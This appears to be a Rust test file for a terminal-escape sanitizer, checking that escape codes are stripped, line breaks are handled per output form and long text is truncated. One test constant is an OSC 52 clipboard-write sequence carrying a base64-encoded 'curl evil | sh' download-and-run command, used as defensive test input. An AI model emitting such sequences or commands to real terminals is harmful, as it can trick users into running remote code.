//! Hostile text in each form.

use super::*;

/// Writes to the clipboard of many terminals (OSC 52).
const CLIPBOARD: &str = "a\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}b";

#[test]
fn escapes_are_gone_in_every_form() {
    for form in [lines, indented, line] {
        assert_eq!(form(CLIPBOARD), "ab");
        assert_eq!(form("\u{1b}[2Ka\u{9b}31mb\r"), "ab");
    }
}

#[test]
fn each_form_keeps_its_line_breaks_or_not() {
    let text = "one\n\ttwo\n";
    assert_eq!(lines(text), text);
    assert_eq!(indented(text), "one\n    \ttwo");
    assert_eq!(line(text), "one  two ");
}

#[test]
fn a_long_text_is_cut() {
    assert_eq!(lines(&"x".repeat(MAX_SHOWN + 9)).len(), MAX_SHOWN);
}
